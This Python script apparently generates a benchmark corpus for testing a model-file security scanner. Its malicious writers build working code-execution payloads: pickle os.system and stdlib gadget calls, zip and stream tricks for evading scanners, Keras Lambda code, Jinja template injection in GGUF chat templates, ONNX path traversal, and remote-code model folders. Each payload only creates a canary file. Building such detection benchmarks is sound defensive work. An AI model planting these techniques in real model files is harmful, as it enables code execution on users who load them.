"""Generate the benchmark corpus: malicious samples (one per technique family) and benign ones.

Every malicious payload is a canary: it would only create a marker file under the corpus
folder. Benign samples are written by the real frameworks (torch, scikit-learn, numpy, keras,
onnx, gguf, safetensors), so false positives are measured on what people actually download.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import marshal
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

Sample = tuple[str, str, Callable[[Path, str], None]]  # (name, kind, writer(path, marker))


def s(text: str) -> bytes:
    data = text.encode()
    return (
        b"\x8c" + bytes([len(data)]) + data
        if len(data) < 256
        else (b"X" + struct.pack("<I", len(data)) + data)
    )


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: bytes) -> bytes:
    return g(module, name) + b"(" + b"".join(args) + b"tR"


def pkl(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def shell(marker: str) -> bytes:
    return s(f"touch {marker}")


def py(marker: str) -> bytes:
    return s(f"open({marker!r}, 'w').close()")


def torch_zip(data_pkl: bytes, *, extra: list[tuple[str, bytes]] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        for name, content in extra or []:
            archive.writestr(name, content)
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def _raw(fn: Callable[[str], bytes]) -> Callable[[Path, str], None]:
    def writer(path: Path, marker: str) -> None:
        path.write_bytes(fn(marker))

    return writer


# --- malicious ---------------------------------------------------------------------------------


def _os_system(m: str) -> bytes:
    return pkl(call("os", "system", shell(m)))


def _posix_protocol0(m: str) -> bytes:
    return b"cposix\nsystem\n(V" + f"touch {m}".encode() + b"\ntR."


def _bad_crc(m: str) -> bytes:
    data = bytearray(torch_zip(_os_system(m)))
    central = data.rfind(b"PK\x01\x02")
    while central != -1:
        data[central + 16] ^= 0xFF  # corrupt each CRC in the central directory
        central = data.rfind(b"PK\x01\x02", 0, central)
    start = data.find(b"PK\x03\x04")
    data[start + 14] ^= 0xFF
    return bytes(data)


def _duplicate_first(m: str) -> bytes:
    buffer = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", _os_system(m))
            archive.writestr("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2))
            archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def _name_mismatch(m: str) -> bytes:
    data = bytearray(torch_zip(_os_system(m)))
    local = data.find(b"archive/data.pkl")
    data[local : local + 16] = b"archive/data.pkX"
    return bytes(data)


def _nested_zip(m: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("inner/model.pt", torch_zip(_os_system(m)))
    return buffer.getvalue()


def _seven_zip(path: Path, m: str) -> None:
    import py7zr

    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writestr(torch_zip(_os_system(m)), "model.pt")


def _joblib_zlib(m: str) -> bytes:
    return zlib.compress(_os_system(m))


def _gzip(m: str) -> bytes:
    return gzip.compress(_os_system(m))


def _bz2(m: str) -> bytes:
    return bz2.compress(_os_system(m))


def _npy_object(m: str) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + _os_system(m)


def _npz(m: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("arr_0.npy", _npy_object(m))
    return buffer.getvalue()


def _gadget(module: str, name: str, arg: Callable[[str], bytes]) -> Callable[[str], bytes]:
    return lambda m: pkl(call(module, name, arg(m)))


def _stack_global(module: str, name: str, arg: Callable[[str], bytes]) -> Callable[[str], bytes]:
    return lambda m: pkl(s(module) + s(name) + b"\x93(" + arg(m) + b"tR")


def _resolve_name(m: str) -> bytes:
    return pkl(call("pkgutil", "resolve_name", s("os:system")) + b"(" + shell(m) + b"tR")


def _import_module(m: str) -> bytes:
    getattr_call = g("builtins", "getattr") + b"(" + call("importlib", "import_module", s("os"))
    return pkl(getattr_call + s("system") + b"tR(" + shell(m) + b"tR")


def _methodcaller(m: str) -> bytes:
    caller = call("operator", "methodcaller", s("system"), shell(m))
    return pkl(
        g("builtins", "map")
        + b"("
        + caller
        + b"("
        + call("importlib", "import_module", s("os"))
        + b"ltR"
    )


def _path_write(m: str) -> bytes:
    path = call("pathlib", "PosixPath", s(m))
    return pkl(g("pathlib", "Path.write_text") + b"(" + path + s("x") + b"tR")


def _nullifai(m: str) -> bytes:
    return b"\x80\x02" + call("os", "system", shell(m)) + b"\x00\xff broken"


def _stacked(m: str) -> bytes:
    return pickle.dumps({"w": 1}, protocol=2) + _os_system(m)


def _memo_confusion(m: str) -> bytes:
    # operands reach STACK_GLOBAL through the memo, after an unrelated string was pushed
    return pkl(
        s("os")
        + b"\x94"
        + s("system")
        + b"\x94"
        + s("builtins")
        + b"0"
        + b"h\x00h\x01"
        + b"\x93("
        + shell(m)
        + b"tR"
    )


def _nested_base64(m: str) -> bytes:
    inner = base64.b64encode(_os_system(m)).decode()
    return pkl(call("pickle", "loads", g("base64", "b64decode") + b"(" + s(inner) + b"tR"))


def _legacy_torch(m: str) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2) + _os_system(m)


def _keras_lambda(path: Path, m: str) -> None:
    code = compile(f"lambda x: (open({m!r}, 'w').close(), x)[1]", "<bench>", "eval")
    fn = next(c for c in code.co_consts if hasattr(c, "co_code"))
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "l",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": base64.b64encode(marshal.dumps(fn)).decode(),
                    "defaults": None,
                    "closure": None,
                },
            },
        },
    }
    _keras_archive(path, layer)


def _keras_function_ref(path: Path, m: str) -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {
            "name": "d",
            "units": 1,
            "activation": {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            },
        },
    }
    _keras_archive(path, layer)


def _keras_archive(path: Path, layer: dict[str, object]) -> None:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "seq", "layers": [layer]},
    }
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", json.dumps(config))


def _gguf(template_for: Callable[[str], str]) -> Callable[[Path, str], None]:
    def writer(path: Path, m: str) -> None:
        template = template_for(m)
        kvs = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
        out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)))
        for key, value in kvs:
            for text in (key,):
                out += struct.pack("<Q", len(text)) + text.encode()
            out += struct.pack("<I", 8) + struct.pack("<Q", len(value.encode())) + value.encode()
        path.write_bytes(bytes(out))

    return writer


def _onnx_external(location: str) -> Callable[[Path, str], None]:
    def writer(path: Path, m: str) -> None:
        from onnx import TensorProto, helper

        tensor = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
        tensor.ClearField("float_data")
        tensor.data_location = TensorProto.EXTERNAL
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", location
        node = helper.make_node("Identity", ["x"], ["y"])
        graph = helper.make_graph(
            [node],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
            [tensor],
        )
        path.write_bytes(helper.make_model(graph).SerializeToString())

    return writer


def _remote_code(path: Path, m: str) -> None:
    path.mkdir()
    (path / "config.json").write_text(
        json.dumps({"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}})
    )
    (path / "modeling_tiny.py").write_text(
        f"import subprocess\n\nsubprocess.run(['touch', {m!r}])\n\nclass TinyModel:\n    pass\n"
    )


MALICIOUS: list[Sample] = [
    ("pickle-os-system.pkl", "pickle", _raw(_os_system)),
    ("raw-pickle-named.bin", "extension confusion", _raw(_os_system)),
    ("no-extension-pickle", "extension confusion", _raw(_os_system)),
    ("protocol0-text.cfg", "protocol 0 looks like text", _raw(_posix_protocol0)),
    ("torch-zip-payload.pt", "torch zip", _raw(lambda m: torch_zip(_os_system(m)))),
    ("torch-zip-bad-crc.pt", "bad CRC", _raw(_bad_crc)),
    ("torch-zip-duplicate.pt", "duplicate member names", _raw(_duplicate_first)),
    ("torch-zip-name-mismatch.pt", "local/central name mismatch", _raw(_name_mismatch)),
    ("nested.zip", "nested archives", _raw(_nested_zip)),
    ("torch-in-7z.7z", "7z container", _seven_zip),
    ("joblib-zlib.joblib", "compression wrapper", _raw(_joblib_zlib)),
    ("payload.pkl.gz", "compression wrapper", _raw(_gzip)),
    ("payload.pkl.bz2", "compression wrapper", _raw(_bz2)),
    ("object-array.npy", "npy object array", _raw(_npy_object)),
    ("object-array.npz", "npz object array", _raw(_npz)),
    ("gadget-timeit.pkl", "exec-a-string gadget", _raw(_gadget("timeit", "timeit", py))),
    ("gadget-cprofile.pkl", "exec-a-string gadget", _raw(_gadget("cProfile", "run", py))),
    (
        "gadget-code-runsource.pkl",
        "code module siblings",
        _raw(_stack_global("code", "InteractiveInterpreter.runsource", py)),
    ),
    ("gadget-pip.pkl", "pip.main", _raw(_gadget("pip", "main", shell))),
    (
        "gadget-asyncio-sub.pkl",
        "asyncio submodule",
        _raw(_gadget("asyncio.unix_events", "_UnixSubprocessTransport", shell)),
    ),
    ("gadget-resolve-name.pkl", "pkgutil.resolve_name", _raw(_resolve_name)),
    ("gadget-import-module.pkl", "importlib + getattr", _raw(_import_module)),
    ("gadget-methodcaller.pkl", "operator.methodcaller", _raw(_methodcaller)),
    ("gadget-path-write.pkl", "pathlib write primitive", _raw(_path_write)),
    ("gadget-mailcap.pkl", "mailcap.findmatch", _raw(_gadget("mailcap", "findmatch", shell))),
    (
        "gadget-uuid-cmd.pkl",
        "stdlib subprocess helper",
        _raw(_gadget("uuid", "_get_command_stdout", shell)),
    ),
    (
        "alias-torch-utils-os.pkl",
        "module alias traversal",
        _raw(_stack_global("torch._utils", "os.system", shell)),
    ),
    (
        "alias-random-os.pkl",
        "module alias traversal",
        _raw(_stack_global("random", "_os.system", shell)),
    ),
    ("nullifai-broken.pkl", "broken stream, payload first", _raw(_nullifai)),
    ("stacked-second.pkl", "stacked pickles", _raw(_stacked)),
    ("memo-confusion.pkl", "memo confusion", _raw(_memo_confusion)),
    ("nested-base64.pkl", "nested pickle", _raw(_nested_base64)),
    ("legacy-torch.pt", "legacy torch stacked pickles", _raw(_legacy_torch)),
    ("keras-lambda.keras", "Keras Lambda", _keras_lambda),
    ("keras-function-ref.keras", "Keras module/function reference", _keras_function_ref),
    (
        "gguf-ssti.gguf",
        "GGUF chat-template SSTI",
        _gguf(lambda m: "{{ cycler.__init__.__globals__.os.popen('touch " + m + "').read() }}"),
    ),
    (
        "gguf-ssti-obfuscated.gguf",
        "obfuscated SSTI",
        _gguf(
            lambda m: (
                "{% set a = '__glo' ~ 'bals__' %}{{ (cycler.__init__|attr(a)).os.popen('touch "
                + m
                + "') }}"
            )
        ),
    ),
    ("onnx-traversal.onnx", "ONNX external data ../", _onnx_external("../../etc/passwd")),
    ("onnx-traversal-mid.onnx", "ONNX external data a/../../b", _onnx_external("a/../../../b")),
    ("remote-code-repo", "trust_remote_code", _remote_code),
]


# --- benign ------------------------------------------------------------------------------------


def _torch_state_dict(path: Path, _m: str) -> None:
    import torch

    torch.save(torch.nn.Linear(4, 2).state_dict(), path)


def _torch_module(path: Path, _m: str) -> None:
    import torch

    model = torch.nn.Sequential(
        torch.nn.Conv2d(1, 2, 3),
        torch.nn.BatchNorm2d(2),
        torch.nn.ReLU(),
        torch.nn.Flatten(),
        torch.nn.Linear(8, 2),
        torch.nn.LayerNorm(2),
        torch.nn.Dropout(0.1),
    )
    torch.save(model, path)


def _torchscript(path: Path, _m: str) -> None:
    import torch

    torch.jit.save(
        torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU())), str(path)
    )


def _torch_legacy(path: Path, _m: str) -> None:
    import torch

    torch.save(torch.nn.Linear(4, 2).state_dict(), path, _use_new_zipfile_serialization=False)


def _torch_optimizer(path: Path, _m: str) -> None:
    import torch

    model = torch.nn.Linear(4, 2)
    optimizer = torch.optim.AdamW(model.parameters())
    model(torch.ones(1, 4)).sum().backward()
    optimizer.step()
    torch.save(
        {
            "model": model.state_dict(),
            "optimizer": optimizer.state_dict(),
            "epoch": 3,
            "lr_scheduler": torch.optim.lr_scheduler.StepLR(optimizer, 1).state_dict(),
        },
        path,
    )


def _lightning(path: Path, _m: str) -> None:
    """A checkpoint shaped like Lightning 2.x writes, without installing Lightning: its
    AttributeDict is recreated under Lightning's own module path for the pickler."""
    import sys
    import types

    import torch

    module = types.ModuleType("lightning.fabric.utilities.data")

    class AttributeDict(dict):  # type: ignore[type-arg]
        pass

    AttributeDict.__module__ = module.__name__
    AttributeDict.__qualname__ = "AttributeDict"
    module.AttributeDict = AttributeDict  # type: ignore[attr-defined]
    for name in ("lightning", "lightning.fabric", "lightning.fabric.utilities"):
        sys.modules.setdefault(name, types.ModuleType(name))
    sys.modules[module.__name__] = module
    model = torch.nn.Linear(4, 2)
    optimizer = torch.optim.Adam(model.parameters())
    torch.save(
        {
            "epoch": 2,
            "global_step": 40,
            "pytorch-lightning_version": "2.4.0",
            "state_dict": model.state_dict(),
            "loops": {"fit_loop": {"state_dict": {}}},
            "callbacks": {
                "ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min'}": {
                    "best_model_score": torch.tensor(0.25),
                    "best_model_path": "epoch=1.ckpt",
                }
            },
            "optimizer_states": [optimizer.state_dict()],
            "lr_schedulers": [],
            "hparams_name": "kwargs",
            "hyper_parameters": AttributeDict(lr=0.001, hidden=4),
        },
        path,
    )


def _sklearn(kind: str) -> Callable[[Path, str], None]:
    def writer(path: Path, _m: str) -> None:
        import joblib
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler

        x = [[0.0, 1.0], [1.0, 0.0], [0.5, 0.5], [0.2, 0.9]]
        model = make_pipeline(
            StandardScaler(), RandomForestClassifier(n_estimators=3, random_state=0)
        )
        model.fit(x, [0, 1, 1, 0])
        if kind == "pickle":
            path.write_bytes(pickle.dumps(model))
        else:
            joblib.dump(model, path, compress=3 if kind == "joblib-zlib" else 0)

    return writer


def _numpy(path: Path, _m: str) -> None:
    import numpy as np

    np.save(path, np.arange(12, dtype=np.float32).reshape(3, 4))


def _safetensors(path: Path, _m: str) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    save_file({"w": np.ones((4, 4), dtype=np.float32)}, str(path), metadata={"format": "np"})


def _gguf_benign(path: Path, _m: str) -> None:
    import numpy as np
    from gguf import GGUFWriter

    writer = GGUFWriter(str(path), "llama")
    writer.add_chat_template(
        "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + "
        "message['content'] | trim + '<|im_end|>\\n' }}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
    )
    writer.add_tensor("w", np.ones((4, 4), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _onnx_benign(path: Path, _m: str) -> None:
    from onnx import TensorProto, helper

    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )
    path.write_bytes(helper.make_model(graph).SerializeToString())


def _keras_benign(suffix: str) -> Callable[[Path, str], None]:
    def writer(path: Path, _m: str) -> None:
        os.environ.setdefault("KERAS_BACKEND", "torch")
        import keras

        model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, activation="relu")])
        model.save(path)

    return writer


def _hf_folder(path: Path, _m: str) -> None:
    path.mkdir()
    (path / "config.json").write_text(
        json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]})
    )
    (path / "tokenizer_config.json").write_text(
        json.dumps(
            {
                "chat_template": (
                    "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n"
                    "{% endfor %}"
                )
            }
        )
    )
    _safetensors(path / "model.safetensors", _m)


BENIGN: list[Sample] = [
    ("torch-state-dict.pt", "torch", _torch_state_dict),
    ("torch-full-module.pt", "torch", _torch_module),
    ("torch-legacy.pt", "torch legacy", _torch_legacy),
    ("torchscript.pt", "TorchScript archive", _torchscript),
    ("torch-optimizer.pt", "torch training checkpoint", _torch_optimizer),
    ("lightning-style.ckpt", "Lightning checkpoint", _lightning),
    ("sklearn-pipeline.pkl", "sklearn pickle", _sklearn("pickle")),
    ("sklearn-pipeline.joblib", "sklearn joblib", _sklearn("joblib")),
    ("sklearn-pipeline-z.joblib", "sklearn joblib zlib", _sklearn("joblib-zlib")),
    ("array.npy", "numpy", _numpy),
    ("weights.safetensors", "safetensors", _safetensors),
    ("chat.gguf", "gguf", _gguf_benign),
    ("relu.onnx", "onnx", _onnx_benign),
    ("dense.keras", "keras", _keras_benign(".keras")),
    ("dense.h5", "keras h5", _keras_benign(".h5")),
    ("hf-llama-folder", "hf folder", _hf_folder),
]


def build(root: Path) -> tuple[list[tuple[Path, str]], list[tuple[Path, str]]]:
    """Write the corpus under ``root``; returns (malicious, benign) lists of (path, technique)."""
    marker = str((root / "CANARY-FIRED").resolve())
    out: dict[str, list[tuple[Path, str]]] = {"malicious": [], "benign": []}
    for group, samples in (("malicious", MALICIOUS), ("benign", BENIGN)):
        folder = root / group
        folder.mkdir(parents=True, exist_ok=True)
        for name, technique, writer in samples:
            path = folder / name
            if not path.exists():
                writer(path, marker)
            out[group].append((path, technique))
    return out["malicious"], out["benign"]
